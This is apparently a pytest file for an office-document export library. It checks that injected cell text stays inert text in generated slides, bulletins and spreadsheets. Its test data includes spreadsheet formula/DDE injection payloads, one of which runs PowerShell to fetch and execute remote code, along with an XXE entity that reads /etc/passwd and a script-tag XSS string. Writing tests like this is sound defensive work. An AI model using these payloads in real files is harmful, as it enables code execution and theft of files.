"""Whatever a clerk types into a cell is printed as text in every paper: no formula, no link, no markup, no trick."""

from __future__ import annotations

import re
from dataclasses import replace

import pandas as pd
import pytest
from papers_read_back import PAPERS, parts

from exports import Dossier, Kpi
from exports.office_text import harmless
from tests.payloads import OTHERS

FORMULAS = [
    "=1+1", "=cmd|' /c calc'!A0", "=cmd|'/C powershell IEX(wget 0.0.0.0)'!A0", "+1+1", "+cmd|' /c calc'!A0", "-2+3",
    "-cmd|' /c calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|' /c calc'!A0", "\t=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1",
    '=HYPERLINK("http://example.test/?x="&A1,"点我")', '=IMPORTXML("http://example.test","//a")', "=DDE(\"cmd\";\"/C calc\")",
    '=WEBSERVICE("http://example.test")', "={1;2}", "=A1:A9", '"=1+1"', ";=1+1", "%0A=1+1", "=1+1;=2+2",
]  # fmt: skip
LINKS = ["http://example.test/甲", "https://example.test", "mailto:a@example.test", "file:///etc/passwd", "internal:Sheet1!A1", "\\\\host\\share"]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<b>甲</b>", "&lt;b&gt;", "]]><x/>", "<!--x-->", "<w:p/>", "<a:hlinkClick r:id='rId1'/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "**甲**", "[甲](http://example.test)", "{甲}", "%s%n{0}",
    "&P&N&G", "_x0041_", "${7*7}",
]  # fmt: skip
CONTROLS = ["甲\x00乙", "甲\x07乙", "甲\x1b[31m乙", "\u202e甲乙", "甲\u200b乙", "\ufeff甲", "甲\u2066乙\u2069", "\x0b甲", "甲\uffff乙"]  # fmt: skip
PAYLOADS = [*FORMULAS, *LINKS, *MARKUP, *CONTROLS, *(text for text in OTHERS.values() if "\n" not in text)]
NAMED = [f"{i:02d}项{payload}" for i, payload in enumerate(PAYLOADS)]
LIVE = {
    "slides": re.compile(r"<a:hlinkClick|<a:hlinkHover|TargetMode=.External|<f>|<f "),
    "bulletin": re.compile(r"<w:hyperlink|TargetMode=.External|<w:fldSimple"),
    "lists": re.compile(r"<f>|<f |<hyperlink|TargetMode=.External|externalLink|ddeLink"),
}


def poisoned(dossier: Dossier, texts: list[str]) -> Dossier:
    """Each text as a red item's name, group, unit and post, as a sub-item's, a project's and a demand's."""

    def spread(frame: pd.DataFrame, *columns: str) -> pd.DataFrame:
        rows = pd.concat([frame.head(1)] * len(texts), ignore_index=True)
        return rows.assign(**dict.fromkeys(columns, texts))

    owners = ("lead_department", "short_department", "lead_leader")
    return replace(
        dossier,
        areas=spread(dossier.areas, "area"),
        behind=spread(dossier.behind, "name", "category", *owners),
        sub_areas=spread(dossier.sub_areas, "name", *owners),
        tasks=spread(dossier.tasks, "name", *owners),
        items=spread(dossier.items.assign(category="教育提升"), "name", *owners).head(8),
        projects=spread(dossier.projects, "project", "site", *owners),
        longest=spread(dossier.longest, "project", "short_leader", *owners),
        project_groups=spread(dossier.project_groups, "name"),
        key_projects=spread(dossier.key_projects, "name", "category", *owners, "short_leader"),
        issue_steps=spread(dossier.issue_steps, "name"),
        campaigns=spread(dossier.campaigns, "name"),
        late_issues=spread(dossier.late_issues, "name", "category", *owners, "short_leader"),
        urgent_fixes=spread(dossier.urgent_fixes, "name", "category", *owners, "short_leader"),
        reviews=spread(dossier.reviews, "category", "name"),
        standing=spread(dossier.standing, "name", "unit", "next_peer", "behind_peer", "source"),
        departments=spread(dossier.departments, "name", "short"),
        leaders=spread(dossier.leaders, "name", "short"),
        praised=spread(dossier.praised, "front", "last").head(3),
        figures={page: (Kpi(texts[0], texts[1], texts[2], texts[3]),) for page in dossier.figures},
        follow_up=spread(dossier.follow_up, "item", "demand", "post", "department", "short_department"),
        meeting=texts[0],
        sources={"overview": tuple(texts)},
    )


@pytest.fixture(scope="module")
def poison(made_up: Dossier) -> dict[str, bytes]:
    """Each paper of a meeting whose clerks typed every payload behind a number, and formulas bare too."""
    told = poisoned(made_up, [*FORMULAS, *NAMED])
    return {name: write(told) for name, (write, _) in PAPERS.items()}


@pytest.fixture(scope="module")
def said(poison: dict[str, bytes]) -> dict[str, str]:
    return {name: read(poison[name]) for name, (_, read) in PAPERS.items()}


@pytest.mark.parametrize("paper", PAPERS)
@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=[repr(p)[:40] for p in PAYLOADS])
def test_it_is_printed_as_it_was_typed(said: dict[str, str], paper: str, i: int) -> None:
    assert harmless(NAMED[i]) in said[paper]


@pytest.mark.parametrize("paper", PAPERS)
def test_no_part_of_the_file_holds_a_formula_or_a_link(poison: dict[str, bytes], paper: str) -> None:
    # The text itself is escaped there, so that only real elements can match.
    found = {name: m.group() for name, text in parts(poison[paper]) if (m := LIVE[paper].search(_unprinted(text)))}
    assert found == {}


@pytest.mark.parametrize("paper", PAPERS)
def test_no_control_or_bidi_character_gets_into_the_file(poison: dict[str, bytes], paper: str) -> None:
    bad = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\u200b\u202a-\u202e\u2066-\u2069\ufeff\uffff]")
    assert [name for name, text in parts(poison[paper]) if bad.search(text)] == []


def _unprinted(xml: str) -> str:
    """The XML without its printed text."""
    return re.sub(r">[^<]+<", "><", xml)
